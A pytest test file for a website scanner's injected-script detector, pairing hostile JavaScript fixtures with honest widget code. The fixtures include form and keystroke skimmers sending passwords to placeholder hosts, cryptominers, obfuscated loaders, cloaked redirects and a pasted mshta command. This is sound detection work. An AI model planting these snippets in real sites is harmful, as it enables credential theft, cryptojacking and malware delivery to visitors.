"""Pages with injected and with honest scripts, from their source."""

from __future__ import annotations

import re

import pytest

from cyberscan.checks.content.injected_script import CHECK
from cyberscan.config.policy import default_policy
from cyberscan.judge.decide import severity_of
from cyberscan.model.check import FoundCheck
from cyberscan.model.facts.content import Visit, Visits
from cyberscan.model.subject import Family
from cyberscan.model.verdict import Outcome, Severity, Verdict
from tests.checks.content.reading import NONE, b64, codes, hexed, linked, material, site
from tests.parse.test_scripts import DISGUISED, HONEST, LOADS, USES, statement

EVIL = "https://jahat.example/x.js"


def judged(source: str, beside: object = NONE, seen: object = NONE) -> Verdict:
    verdict = CHECK.judge(material(source), beside, seen, NONE)
    assert isinstance(verdict, Verdict)
    return verdict


def scripted(*sources: str) -> str:
    return site("".join(f"<script>{source}</script>" for source in sources))


_COMMENT = re.compile(r"/\*.*?\*/")


@pytest.mark.parametrize("use", [*LOADS, *USES])
@pytest.mark.parametrize("how", DISGUISED)
def test_whatever_goes_to_an_address_in_disguise_fails(how: str, use: str) -> None:
    # A comment would say whose it is.
    source = _COMMENT.sub("", statement(DISGUISED[how], {**LOADS, **USES}[use]))
    verdict = judged(scripted(source))
    assert (verdict.outcome, verdict.message) == (Outcome.FAIL, "loader"), source
    assert "jahat.test" in str(verdict.evidence[0])


INJECTED = {
    "a frame in character codes": (
        f"document.write(String.fromCharCode({codes(f'<iframe src={EVIL} width=0></iframe>')}))",
        "loader",
    ),
    "eval of base64": (
        f"eval(atob('{b64(f'''var s=document.createElement('script');s.src='{EVIL}';''')}'))",
        "loader",
    ),
    "eval of base64 that names no host": (f"eval(atob('{b64('go(1);b=c(2)')}'))", "look"),
    "search visitors": (
        "if(document.referrer.indexOf('google')>-1){window.location.href='https://jahat.example/'}",
        "visitors",
    ),
    "search visitors, at load": (
        (
            "window.onload=function(){var r=document.referrer;if(/google|bing|yahoo/.test(r))"
            "{location.replace('https://jahat.example/?k='+r)}}"
        ),
        "visitors",
    ),
    "whoever comes from nowhere": (
        "if(document.referrer==''){location.href='https://masuk.example/'}",
        "look",
    ),
    "telephones, in disguise": (
        f"if(/Android/.test(navigator.userAgent)){{location=atob('{b64('https://jahat.example/')}')}}",
        "visitors",
    ),
    "once for each visitor, in disguise": (
        (
            "if(document.cookie.indexOf('v=1')<0){document.cookie='v=1';"
            f"location.href='{hexed('https://jahat.example/')}'}}"
        ),
        "visitors",
    ),
    "a theme's credit": (
        f"if(!document.getElementById('kredit')){{location.href='{hexed('https://tema.example/')}'}}",
        "look",
    ),
    "Coinhive": ("var m=new CoinHive.Anonymous('k',{throttle:0.3});m.start()", "miner"),
    "Crypto-Loot": ("var m=new CryptoLoot.Anonymous('k');m.start()", "miner"),
    "a miner's file": (
        "var s=document.createElement('script');s.src='https://crypto-loot.com/lib/miner.min.js'",
        "miner",
    ),
    "a skimmer": (
        (
            "document.querySelector('form').onsubmit=function(){var d=document.querySelector("
            f"'[name=cvv]').value;new Image().src=atob('{b64('https://jahat.example/i?')}')+d}}"
        ),
        "skimmer",
    ),
    "passwords by the bot interface": (
        (
            "$('form').submit(function(){fetch('https://api.telegram.org/bot1/send?text='+"
            "document.querySelector('input[type=password]').value)})"
        ),
        "skimmer",
    ),
    "complaints by the bot interface": (
        (
            "$('form').submit(function(){$.post('https://api.telegram.org/bot1/send',"
            "{text:$('#aduan').val()})})"
        ),
        "look",
    ),
    "obfuscated, and it loads something": (
        ";".join(f"var _0x{n:04x}=1" for n in range(20))
        + ";var s=document.createElement('script');s.src=_0x0001(2)",
        "look",
    ),
}


@pytest.mark.parametrize("name", INJECTED)
def test_injected_scripts(name: str) -> None:
    source, message = INJECTED[name]
    verdict = judged(scripted(source))
    assert (verdict.outcome, verdict.message) == (Outcome.FAIL, message)
    found = FoundCheck("content/injected-script", Family.CONTENT, "", CHECK)
    expected = Severity.INFO if message == "look" else Severity.HIGH
    assert severity_of(found, verdict, default_policy()) is expected


def test_on_a_page_behind_the_front_page() -> None:
    source, message = INJECTED["eval of base64"]
    beside = linked(("wp-content/uploads/a.html", scripted(source)))
    assert judged(site(), beside).message == message


def test_the_worst_of_several_speaks_and_all_are_shown() -> None:
    verdict = judged(scripted(*(source for source, _ in INJECTED.values())))
    assert verdict.message == "miner"
    assert len(verdict.evidence) == 6
    assert str(verdict.evidence[-1]).startswith("(+")


@pytest.mark.parametrize("name", HONEST)
def test_honest_scripts_pass(name: str) -> None:
    verdict = judged(scripted(HONEST[name]))
    assert verdict.outcome is Outcome.PASS, verdict


ORDINARY = {
    "to the own zone in disguise": f"location=atob('{b64('https://m.contohkab.go.id/')}')",
    "to another office in disguise": f"location=atob('{b64('https://sso.jatimprov.go.id/')}')",
    "to a relative address in disguise": f"location=atob('{b64('/beranda')}')",
    "a picture in base64": "var i=new Image();i.src='data:image/png;base64,iVBORw0KGgo='",
    "JSON in base64": f"var c=JSON.parse(atob('{b64('{a:https://x.example/}')}'))",
    "a password test": "$('[name=password]').on('keyup',function(){lihat(this.value.length)})",
    "a login": "$('#f').submit(function(){$.post('/login',{p:$('[name=password]').val()})})",
    "a login of another office": "fetch('https://sso.jatimprov.go.id/masuk',{method:'POST',"
    "body:document.querySelector('input[type=password]').value})",
    "a link to share": "function bagi(){window.open('https://www.facebook.com/sharer?u='+u)}",
    "a mobile application": "if(/Android/.test(navigator.userAgent)){"
    "location='https://play.google.com/store/apps/details?id=id.go.contoh'}",
    "a referrer that is counted": "new Image().src='https://hitung.example/i?r='+document.referrer",
    "back": "if(document.referrer){location.href=document.referrer}",
    "a splash that moves on": "setTimeout(function(){location.href='/beranda'},3000)",
    "obfuscated only": ";".join(f"var _0x{n:04x}=1" for n in range(20)),
    "reversed text": "document.write('<b>'+'dia'.split('').reverse().join('')+'</b>')",
    "a dictionary in unicode escapes": 'var t={"a":"\\u0053\\u0065\\u006c\\u0061\\u006d"};f(t)',
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_scripts_pass(name: str) -> None:
    verdict = judged(scripted(ORDINARY[name]))
    assert verdict.outcome is Outcome.PASS, verdict


def test_links_to_an_address_and_a_second_copy_excuse_no_script() -> None:
    script = f"location=atob('{b64('https://jahat.example/')}')"
    loader = f"document.write(atob('{b64(f'<script src={EVIL}></script>')}'))"
    page = site(
        f'<a href="https://jahat.example/">x</a><script>{script}</script><script>{loader}</script>'
        f"<script>{loader};1</script>"
    )
    verdict = judged(page)
    assert verdict.message == "loader"
    assert len(verdict.evidence) == 3


def test_reading_fields_hides_no_loader() -> None:
    loader = LOADS["a script element"].format(f"atob('{b64(EVIL)}')")
    verdict = judged(scripted(f"fetch('/x',{{body:document.f.nama.value}});{loader}"))
    assert verdict.message == "loader"


def test_a_list_of_miners_is_no_miner() -> None:
    names = "var blokir=['coinhive.com','https://coinhive.com/'];fetch('/log?'+blokir[0])"
    assert judged(scripted(names)).outcome is Outcome.PASS


def test_an_address_the_page_names_openly_is_no_stranger() -> None:
    chat = f"var s=document.createElement('script');s.src=atob('{b64('https://c.obrolan.example/w.js')}')"
    assert judged(site(f'<script src="https://obrolan.example/a.js"></script><script>{chat}'
                       "</script>")).outcome is Outcome.PASS  # fmt: skip


FORM = '<form action="/masuk"><input name="u"><input type="password" name="p"></form>'
MOVE = "location.href='https://jahat.example/t'"

TRAPS = {
    "a click anywhere": "document.onclick=function(){window.open('https://jahat.example/p')}",
    "the first scroll": f"$(window).one('scroll',function(){{{MOVE}}})",
    "the back button": "history.pushState(1,'',location.pathname);addEventListener('popstate',"
    f"function(){{setTimeout(function(){{{MOVE}}},0)}})",
    "the first visit, by cookie": "if(document.cookie.indexOf('s=')<0){document.cookie='s=1';"
    f"{MOVE}}}",
    "the first visit, by storage": f"if(!localStorage.s){{localStorage.s=1;{MOVE}}}",
    "telephones": f"if(screen.width<600){{{MOVE}}}",
    "telephones by agent": f"if(/Android/.test(navigator.userAgent)){{{MOVE}}}",
}


@pytest.mark.parametrize("name", TRAPS)
def test_scripts_that_move_some_visitors_or_at_some_time(name: str) -> None:
    verdict = judged(scripted(TRAPS[name]))
    assert (verdict.outcome, verdict.message) == (Outcome.FAIL, "visitors")
    assert "jahat.example" in str(verdict.evidence[0])


@pytest.mark.parametrize("name", TRAPS)
@pytest.mark.parametrize(
    "to", ["https://m.contohkab.go.id/", "https://www.youtube.com/watch", "https://x.sch.id/", "/m"]
)
def test_the_same_to_a_known_place_passes(name: str, to: str) -> None:
    source = TRAPS[name]
    for there in ("https://jahat.example/t", "https://jahat.example/p"):
        source = source.replace(there, to)
    assert judged(scripted(source)).outcome is Outcome.PASS


def test_telephones_sent_where_the_page_links_to_need_a_look() -> None:
    link = '<a href="https://jahat.example/">Situs festival</a>'
    assert judged(site(f"{link}<script>{TRAPS['telephones']}</script>")).message == "look"
    assert judged(site(f"{link}<script>{TRAPS['a click anywhere']}</script>")).message == "visitors"


@pytest.mark.parametrize("profile", ["mobile", "referer", "bot"])
def test_scripts_that_only_some_visitors_get(profile: str) -> None:
    page = material(scripted(TRAPS["the first visit, by cookie"]))
    seen = Visits(
        visits=(
            Visit(profile="browser", exchange=page.exchange, matter=material(site()).matter),
            Visit(profile=profile, exchange=page.exchange, matter=page.matter),
        )
    )
    verdict = judged(site(), seen=seen)
    assert verdict.message == "visitors"
    assert str(verdict.evidence[0]).startswith(f"[{profile}] ")


def test_what_every_visitor_gets_is_told_once() -> None:
    page = material(scripted(TRAPS["telephones"]))
    visit = Visit(profile="mobile", exchange=page.exchange, matter=page.matter)
    verdict = judged(scripted(TRAPS["telephones"]), seen=Visits(visits=(visit,)))
    assert len(verdict.evidence) == 1


STOLEN = {
    "keys by a picture": 'var b="";document.onkeypress=function(e){b+=e.key};setInterval(function()'
    '{(new Image).src="https://s.jahat.example/k.gif?d="+b},9)',
    "fields by a picture": "var o={};document.querySelectorAll('input').forEach(function(x)"
    "{o[x.name]=x.value});new Image().src='https://s.jahat.example/c?d='+btoa(JSON.stringify(o))",
    "a beacon": "f.onsubmit=function(){navigator.sendBeacon('https://s.jahat.example/b',"
    "new FormData(this))}",
    "a form without an answer": "function k(f){fetch('https://s.jahat.example/g',{method:'POST',"
    "mode:'no-cors',body:new FormData(f)})}",
    "to a name like a vendor's": "fetch('https://google-anaiytics.example/g',{method:'POST',"
    "body:new FormData(document.forms[0])})",
}


@pytest.mark.parametrize("name", STOLEN)
def test_what_is_typed_beside_a_password_and_sent_quietly(name: str) -> None:
    verdict = judged(site(f"{FORM}<script>{STOLEN[name]}</script>"))
    assert (verdict.outcome, verdict.message) == (Outcome.FAIL, "skimmer")


@pytest.mark.parametrize(
    "source",
    [
        # A login at a firm whose answer is read, a search counted, a survey without an answer.
        (
            "fetch('https://api.vendor.example/login',{method:'POST',body:new FormData(f)})"
            ".then(function(r){return r.json()})"
        ),
        "fetch('/masuk',{method:'POST',mode:'no-cors',body:new FormData(f)})",
        "new Image().src='https://hitung.example/i?h='+location.hostname",
        "navigator.sendBeacon('https://hitung.example/b',document.title)",
    ],
)
def test_ordinary_logins_are_no_skimmers(source: str) -> None:
    assert judged(site(f"{FORM}<script>{source}</script>")).outcome is Outcome.PASS


def test_a_survey_without_a_password_is_no_skimmer() -> None:
    survey = '<form><input name="pendapat"></form>'
    page = site(f"{survey}<script>{STOLEN['a form without an answer']}</script>")
    assert judged(page).outcome is Outcome.PASS


MINING = {
    "a library by another name": "var m=new WebMine.Anonymous('k',{threads:2,throttle:0.3});"
    "m.start(WebMine.FORCE_MULTI_TAB)",
    "a pool over a socket": "var w=new Worker(URL.createObjectURL(new Blob([s])));"
    "var ws=new WebSocket('wss://p.jahat.example/c');ws.onopen=function(){ws.send(JSON.stringify("
    "{identifier:'handshake',pool:'p',login:'x'}))};ws.onmessage=function(m){if(m.job)"
    "w.postMessage(m.job)};w.onmessage=function(r){ws.send({identifier:'solved',nonce:r.nonce})}",
}


@pytest.mark.parametrize("name", MINING)
def test_miners_by_what_they_do(name: str) -> None:
    assert judged(scripted(MINING[name])).message == "miner"


@pytest.mark.parametrize(
    "source",
    [
        (
            "var ws=new WebSocket('wss://obrolan.example/ws');ws.onopen=function(){ws.send("
            "JSON.stringify({login:'tamu'}))}"
        ),
        "var t=new Masuk.User('budi',{nama:'Budi'})",
        "var w=new Worker('/js/peta.js');w.postMessage({job:1,target:2})",
    ],
)
def test_chats_and_workers_are_no_miners(source: str) -> None:
    assert judged(scripted(source)).outcome is Outcome.PASS


@pytest.mark.parametrize(
    ("tag", "message"),
    [
        ('<script src="https://fonts.gstaticx.example/a.js"></script>', "smuggled"),
        ('<script src="https://www.google-anaiytics.example/a.js"></script>', "smuggled"),
        ('<script src="https://googleanalytics.example/a.js"></script>', "smuggled"),
        ('<script src="https://cdn.jquery-libcdn.example/a.js"></script>', "look"),
        (
            (
                "<img src=/x onerror=\"var s=document.createElement('script');"
                "s.src='//jahat.example/w.js';document.body.appendChild(s)\">"
            ),
            "smuggled",
        ),
        (
            (
                "<script>(function(d,s){var e=d.createElement(s);e.src='//x.jquery-lib.example/'+1;"
                "d.body.appendChild(e)})(document,'script')</script>"
            ),
            "smuggled",
        ),
        (
            (
                "<script>$('<iframe>',{src:'https://jahat.example/f'}).css({width:'100vw',"
                "height:'100vh'}).appendTo('body')</script>"
            ),
            "cover",
        ),
        (
            (
                '<i id=j data-a="YWxlcnQoMSk="></i><body onload="new Function(atob('
                "document.getElementById('j').dataset.a))()\">"
            ),
            "kept",
        ),
    ],
)
def test_scripts_that_are_smuggled_in(tag: str, message: str) -> None:
    verdict = judged(site(tag))
    assert (verdict.outcome, verdict.message) == (Outcome.FAIL, message)


@pytest.mark.parametrize(
    "tag",
    [
        '<script src="https://www.gstatic.com/a.js"></script>',
        '<script src="https://static.cloudflareinsights.com/beacon.min.js"></script>',
        '<script src="https://code.jquery.com/jquery.js"></script>',
        '<script src="https://connect.facebook.net/id_ID/sdk.js"></script>',
        '<script src="https://widget.example/a.js"></script>',
        "<img src=/x onerror=\"this.src='/kosong.png'\">",
        (
            "<script>(function(d,s){var e=d.createElement(s);e.src='//obrolan.example/w.js';"
            "d.body.appendChild(e)})(document,'script')</script>"
        ),
        (
            "<script>$('<iframe>',{src:'https://www.youtube.com/embed/x'}).css({width:'100vw'})"
            ".appendTo('#v')</script>"
        ),
        "<script>$('<iframe>',{src:'https://video.example/x'}).appendTo('#v')</script>",
        "<script>var d=JSON.parse(atob(document.getElementById('j').dataset.a))</script>",
    ],
)
def test_scripts_that_are_taken_openly(tag: str) -> None:
    assert judged(site(tag)).outcome is Outcome.PASS


WIDGETS = {
    'Google Analytics': (
        '<script>(function(w,d,s,u,n){w[n]=w[n]||[];var a=d.createElement(s),m=d.getEle'
        'mentsByTagName(s)[0];a.async=1;a.src=u;m.parentNode.insertBefore(a,m)})(window'
        ",document,'script','https://www.google-analytics.com/analytics.js','ga');ga('c"
        "reate','UA-1')</script>"
    ),
    'Facebook pixel': (
        '<script>!function(w,d,e,v){var t=d.createElement(e),s=d.getElementsByTagName(e'
        ")[0];t.src=v;s.parentNode.insertBefore(t,s)}(window,document,'script','https:/"
        "/connect.facebook.net/id/fbevents.js')</script>"
    ),
    'a chat of a known firm': (
        "<script>var Tawk_API=Tawk_API||{};(function(){var s1=document.createElement('s"
        "cript'),s0=document.getElementsByTagName('script')[0];s1.async=true;s1.src='ht"
        "tps://embed.tawk.to/5f/default';s0.parentNode.insertBefore(s1,s0)})();</script"
        '>'
    ),
    'a chat of another': (
        "<script>(function(){var s1=document.createElement('script');s1.async=true;s1.s"
        "rc='https://embed.obrolan.example/5f/default';document.head.appendChild(s1)})("
        ');</script>'
    ),
    'a counter': (
        "<script>var _Hasync=_Hasync||[];_Hasync.push(['Histats.start','1,1,4,0']);(fun"
        "ction(){var hs=document.createElement('script');hs.src=('//s10.histats.com/js1"
        "5_as.js');document.getElementsByTagName('head')[0].appendChild(hs)})();</scrip"
        't>'
    ),
    'Clarity': (
        "<script>(function(c,l,a,r,i){var t=l.createElement(r);t.async=1;t.src='https:/"
        "/www.clarity.ms/tag/'+i;l.head.appendChild(t)})(window,document,'clarity','scr"
        "ipt','abc')</script>"
    ),
    "Matomo at a firm's": (
        "<script>var _paq=[];(function(){var u='//statistik.penyedia.example/';_paq.pus"
        "h(['setTrackerUrl',u+'matomo.php']);var d=document,g=d.createElement('script')"
        ",s=d.getElementsByTagName('script')[0];g.src=u+'matomo.js';s.parentNode.insert"
        'Before(g,s)})();</script>'
    ),
    'an accessibility tool': (
        "<script>(function(d){var s=d.createElement('script');s.setAttribute('data-acco"
        "unt','x');s.setAttribute('src','https://cdn.userway.org/widget.js');(d.body||d"
        '.head).appendChild(s)})(document)</script>'
    ),
    'comments': (
        "<script>(function(){var d=document,s=d.createElement('script');s.src='https://"
        "x.disqus.com/embed.js';s.setAttribute('data-timestamp',+new Date());(d.head||d"
        '.body).appendChild(s)})();</script>'
    ),
    "Cloudflare's own": (
        "<script>(function(){var f=document.createElement('iframe');f.height=1;f.width="
        "1;document.body.appendChild(f);var d=f.contentDocument.createElement('script')"
        ';d.innerHTML="var a=document.createElement(\'script\');a.src=\'/cdn-cgi/x/main.js'
        '\';document.head.appendChild(a);";f.contentDocument.head.appendChild(d)})()</sc'
        'ript>'
    ),
    'a picture mended': (
        '<img src=a onerror="this.onerror=null;this.src=\'https://via.placeholder.exampl'
        'e/150\'">'
    ),
    'a sheet preloaded': '<link rel=preload href=x.css onload="this.rel=\'stylesheet\'">',
    'a copy of a library': (
        '<script>window.jQuery||document.write(\'<script src="/js/jquery.js"><\\/script>\''
        ')</script>'
    ),
    'a second CDN': (
        '<script src=https://cdn.x.example/a.js onerror="var s=document.createElement(\''
        'script\');s.src=\'https://cdn2.y.example/a.js\';document.head.appendChild(s)"></s'
        'cript>'
    ),
    'a menu closed by a click': (
        "<script>document.onclick=function(e){if(!e.target.closest('.menu')){document.q"
        "uerySelector('.menu').hidden=true}}</script>"
    ),
    'a note shown once': (
        "<script>if(!sessionStorage.popup){sessionStorage.popup=1;$('#modal').modal('sh"
        "ow')}</script>"
    ),
    'a language kept': (
        "<script>if(document.cookie.indexOf('lang=')<0){document.cookie='lang=id';locat"
        "ion.reload();location.href='/id/'}</script>"
    ),
    'a messenger': '<a onclick="window.open(\'https://api.whatsapp.com/send?phone=62\')">WA</a>',
    "a login at a firm's": (
        "<form><input type=password name=p></form><script>function m(){axios.post('http"
        "s://api.penyedia.example/login',{u:f.u.value,p:f.p.value}).then(function(r){lo"
        "calStorage.setItem('token',r.data.token);location.href='/beranda'})}</script>"
    ),
    'a login and a counter': (
        "<form id=f><input type=password name=p></form><script>$('#f').submit(function("
        "){$.post('/login',$(this).serialize(),function(r){if(r.ok)location.href='/dash"
        "'})});(function(){var b=new Image();b.src='https://hitung.statistik.example/i?"
        "h='+location.hostname})()</script>"
    ),
    'fields marked': (
        "<form><input type=password name=p></form><script>document.querySelectorAll('in"
        "put').forEach(function(x){x.addEventListener('keyup',function(){x.classList.to"
        "ggle('isi',x.value)})});fetch('/api/cek',{method:'POST',body:new FormData(docu"
        'ment.forms[0])})</script>'
    ),
    'notifications': (
        '<script>window.OneSignal=window.OneSignal||[];OneSignal.push(function(){OneSig'
        "nal.init({appId:'x'})});</script>"
    ),
    'a worker': (
        "<script>if('serviceWorker'in navigator){navigator.serviceWorker.register('/sw."
        "js')}</script>"
    ),
    'Livewire': (
        "<script>window.livewire_app_url='';window.livewire_token='x';document.addEvent"
        "Listener('DOMContentLoaded',function(){window.livewire.start()})</script>"
    ),
    'films on demand': (
        "<script>document.querySelectorAll('.yt').forEach(function(e){e.addEventListene"
        "r('click',function(){var f=document.createElement('iframe');f.src='https://www"
        ".youtube.com/embed/'+e.dataset.id;f.style.width='100%';e.appendChild(f)})})</s"
        'cript>'
    ),
    'a tour of the house': (
        "<script>var f=document.createElement('iframe');f.src='https://tur360.vendor.ex"
        "ample/kantor';f.style.width='100%';document.getElementById('t').appendChild(f)"
        '</script>'
    ),
    'an application': (
        "<script>if(/iPhone|iPad/.test(navigator.userAgent)){location.href='https://app"
        "s.apple.com/id/app/x'}</script>"
    ),
    'the mobile site': (
        "<script>if(screen.width<=699){document.location='https://m.contoh.go.test/'}</"
        'script>'
    ),
    'another counter': "<script>sc_online_i('1','ffffff','e61c1c')</script>",
    'a translator': (
        '<script>function googleTranslateElementInit(){new google.translate.TranslateEl'
        "ement({pageLanguage:'id'},'g')}</script>"
    ),
    'a captcha': (
        "<script>var onloadCallback=function(){grecaptcha.render('r',{sitekey:'x'})}</s"
        'cript>'
    ),
    'a feed': (
        '<script>document.write(\'<script src="/feeds/posts/default?alt=json-in-script&c'
        'allback=f"><\\/script>\')</script>'
    ),
    'a mail address': (
        '<script>document.write(String.fromCharCode(60,97,32,104,114,101,102,61,39,109,'
        "97,105,108,116,111,58,97,64,98,46,105,100,39,62)+'x</a>')</script>"
    ),
    'a packed gallery': (
        '<script>eval(function(p,a,c,k,e,d){e=function(c){return c};while(c--)if(k[c])p'
        "=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('$(0).1({2:3})',4,"
        "4,'gallery|slick|speed|300'.split('|'),0,{}))</script>"
    ),
    'tools of developers': (
        "<script>document.onkeydown=function(e){if(e.keyCode==123){window.location='htt"
        "ps://www.google.com';return false}}</script>"
    ),
    'signed out when idle': (
        '<script>var t;document.onmousemove=function(){clearTimeout(t);t=setTimeout(fun'
        "ction(){location.href='/keluar'},60000)}</script>"
    ),
    'a screen in the hall': (
        "<script>setTimeout(function(){location.href='https://www.jatimprov.go.id/'},90"
        '00)</script>'
    ),
    'links that open outside': (
        "<script>$(document).on('click','a.luar',function(e){e.preventDefault();window."
        'open(this.href)})</script>'
    ),
    'a source noted': (
        '<script>if(document.referrer&&document.referrer.indexOf(location.host)<0){docu'
        "ment.cookie='asal='+document.referrer}</script>"
    ),
    'a source counted': (
        '<script>var r=document.referrer;if(/google|bing/.test(r)){dataLayer.push({asal'
        ":'cari'})}(function(){var s=document.createElement('script');s.src='https://ww"
        "w.googletagmanager.com/gtag/js?id=1';document.head.appendChild(s)})()</script>"
    ),
    'an interface': (
        "<script>const base='https://api.vendor.example';fetch(`${base}/v1/berita`).the"
        'n(r=>r.json()).then(d=>{x.innerHTML=d.html})</script>'
    ),
    'webpack': (
        '<script>(self.webpackChunk=self.webpackChunk||[]).push([[1],{2:(e,t,n)=>{var r'
        "=n(3);e.exports=r.p+'a.js'}}])</script>"
    ),
    'Next': '<script>self.__next_f.push([1,\'a:["$","div"]\'])</script>',
    'settings in base64': (
        "<script>var c=JSON.parse(atob('eyJhIjoiaHR0cHM6Ly94LmV4YW1wbGUifQ=='));(functi"
        "on(){var s=document.createElement('script');s.src='/w.js';document.head.append"
        'Child(s)})()</script>'
    ),
    'a cashier': (
        "<script src='https://app.midtrans.com/snap/snap.js' data-client-key='x'></scri"
        'pt>'
    ),
    'hosts with common names': (
        "<script src='https://static.example/a.js'></script><script src='https://cdn.qu"
        "ery.example/a.js'></script><script src='https://cdn.bootcss.com/jquery.js'></s"
        'cript>'
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", WIDGETS)
def test_what_honest_sites_are_made_of(name: str) -> None:
    page = f"<title>Dinas</title><p>Isi laman dinas.</p>{WIDGETS[name]}"
    verdict = judged(page)
    assert verdict.outcome is Outcome.PASS, verdict


def test_an_application_that_signs_in_elsewhere_needs_a_look() -> None:
    login = "if(!localStorage.t){localStorage.k=1;location.href='https://sso.firma.example/login'}"
    assert judged(scripted(login)).message == "look"


def test_an_office_s_other_address_needs_a_look() -> None:
    move = "if(screen.width<600){location.href='https://m.contohkab.example/'}"
    assert judged(scripted(move)).message == "look"


PASSWORD = "<form action='/masuk'><input name='u'><input type='password' name='p'></form>"
POOL = (
    "var w=new WebSocket('wss://sinkron.example/');w.onmessage=function(e){var j=JSON.parse(e.data)"
    ";if(j.type=='job'){w.send(JSON.stringify({type:'submit',nonce:1}))}}"
)
KEPT = {
    "numbers in an attribute, as a script's address": (
        "<i id=k data-u='1,2'></i><script>(function(d){var t=d.getElementById('k').dataset.u.split("
        "',').reverse().map(function(v){return String.fromCharCode(v-7)}).join(''),e=d."
        "createElement(x?'script':'i');e.src=t;d.head.appendChild(e)})(document)</script>"
    ),
    "numbers in an attribute, run by a constructor": (
        "<i id=k data-u='1 2'></i><script>(function(i){var q=i.dataset,r='';q.u.split(' ').forEach("
        "function(n){r+=String['from'+'CharCode'](n^q.w)});[]['filter']['constructor'](r)()})("
        "document.getElementById('k'))</script>"
    ),
    "blanks in a comment, run by a clock": (
        "<script id=k>(function(){var t=document.getElementById('k').text,o='';t.replace(/.{8}/g,"
        "function(m){o+=String.fromCharCode(parseInt(m,2))});setTimeout(o,9)})()</script>"
    ),
}


@pytest.mark.parametrize("name", KEPT)
def test_what_is_put_together_from_the_page_and_run(name: str) -> None:
    assert judged(site(KEPT[name])).message == "kept"


ACTS = {
    "a worker in a text that mines": (
        f'<script>var s="{POOL}";new Worker(URL.createObjectURL(new Blob([s])))</script>',
        "miner",
    ),
    "a copy of the form by a picture": (
        (
            f"{PASSWORD}<script>var f=document.forms[0];f.addEventListener('submit',function(){{"
            "var "
            "o="
            "[];for(var i=0;i<f.elements.length;i++){o.push(f.elements[i].value)}(new Image()).src="
            "'//statistik.example/p.gif?d='+btoa(o.join('|'))})</script>"
        ),
        "skimmer",
    ),
    "a copy that wants no answer": (
        (
            f"{PASSWORD}<script>d.onclick=function(){{fetch('https://terima.example/v',{{method:'POST',"
            "mode:'no-cors',body:JSON.stringify({e:a.value,p:b.value})})}</script>"
        ),
        "skimmer",
    ),
    "a picture that reads the form": (
        (
            f'{PASSWORD}<svg onload="var s=this,o={{}};[].forEach.call(document.forms[0].elements,'
            "function(e){o[e.name]=e.value});var w=new WebSocket('wss://'+s.dataset.h);w.send(o)\">"
            "</svg>"
        ),
        "skimmer",
    ),
    "a chat's address in pieces": (
        (
            "<script>var u=['api','telegram','org'].join('.');k.onclick=function(){fetch('https://'+u+"
            "'/bot'+t+'/sendMessage?text='+a.value)}</script>"
        ),
        "skimmer",
    ),
    "a command for the visitor": (
        (
            "<script>c.onclick=function(){navigator.clipboard.writeText('mshta https://x.example/h')}"
            "</script>"
        ),
        "paste",
    ),
    "a program from a blockchain": (
        (
            "<script>(async()=>{const b=await fetch('https://rpc.example/',{method:'POST',body:JSON."
            "stringify({method:'eth_call'})}).then(r=>r.json());let o='';for(let i=0;i<9;i+=2)o+="
            "String.fromCharCode(parseInt(b.substr(i,2),16));(0,eval)(o)})()</script>"
        ),
        "smuggled",
    ),
    "an address from a resolver": (
        (
            "<script>$.getJSON('https://dns.google/resolve?type=TXT&name=x.example',function(d){"
            "var "
            "u="
            "d.Answer[0].data;window.location.assign(u)})</script>"
        ),
        "smuggled",
    ),
    "a layer that opens a stranger's page": (
        (
            "<div style='position:fixed;inset:0' onclick=\"var a=document.createElement('a');a."
            "href='https://jahat.example/p';a.click()\"></div>"
        ),
        "visitors",
    ),
}


@pytest.mark.parametrize("name", ACTS)
def test_acts_that_have_no_honest_explanation(name: str) -> None:
    page, message = ACTS[name]
    assert judged(site(page)).message == message


def test_a_body_that_opens_a_stranger_s_page() -> None:
    page = "<title>Dinas</title><body onclick=\"window.open('https://jahat.example/g')\">Dinas"
    assert judged(page).message == "visitors"


HONEST_ACTS = {
    "a worker in a text that counts": (
        '<script>new Worker(URL.createObjectURL(new Blob(["onmessage=function(e){postMessage(e.data'
        '+1)}"])))</script>'
    ),
    "a socket that signs in, beside a worker": (
        "<script>new Worker('/w.js');var s=new WebSocket('wss://obrolan.example/');s.send(JSON."
        "stringify({type:'login',target:'cs',submit:1,job:2}))</script>"
    ),
    "a mail address in an attribute": (
        "<script>var t='';el.dataset.m.split(',').forEach(function(n){t+=String.fromCharCode(n^7)}"
        ");a.href='mailto:'+t;a.textContent=t</script>"
    ),
    "a picture in base64 in an attribute": "<script>i.src=atob(i.dataset.src)</script>",
    "an own counter at the login": (
        f"{PASSWORD}<script>f.onsubmit=function(){{if(u.value.length<3)return;navigator.sendBeacon("
        "'/log/klik','masuk')}</script>"
    ),
    "a statistic at the login": (
        f"{PASSWORD}<script>navigator.sendBeacon('https://statistik.example/c',location.href)"
        "</script>"
    ),
    "a form of its own that Google's script takes, beside the login": (
        f"{PASSWORD}<script>k.onsubmit=function(){{fetch('https://script.google.com/macros/s/x/exec'"
        ",{method:'POST',mode:'no-cors',body:new FormData(k)})}</script>"
    ),
    "a button that copies the address": (
        "<script>b.onclick=function(){navigator.clipboard.writeText(location.href)}</script>"
    ),
    "a command that is copied from the page": (
        "<pre id=p>powershell -c iwr https://x.example</pre><script>b.onclick=function(){navigator."
        "clipboard.writeText(p.textContent)}</script>"
    ),
    "a look at one's own name": (
        "<script>fetch('https://dns.google/resolve?type=TXT&name=contohkab.go.id').then(r=>r.json())"
        ".then(d=>{x.textContent=d.Status})</script>"
    ),
    "a dialogue that is closed by a click beside it": (
        "<div style='position:fixed;inset:0' onclick=\"this.style.display='none'\"></div>"
    ),
    "a body that says something": "<div onclick=\"alert('Dinas')\">Dinas</div>",
    "a download": (
        "<script>b.onclick=function(){var a=document.createElement('a');a.href='https://arsip."
        "example/a.pdf';a.click()}</script>"
    ),
}


@pytest.mark.parametrize("name", HONEST_ACTS)
def test_their_honest_counterparts(name: str) -> None:
    verdict = judged(site(HONEST_ACTS[name]))
    assert verdict.outcome is Outcome.PASS, verdict
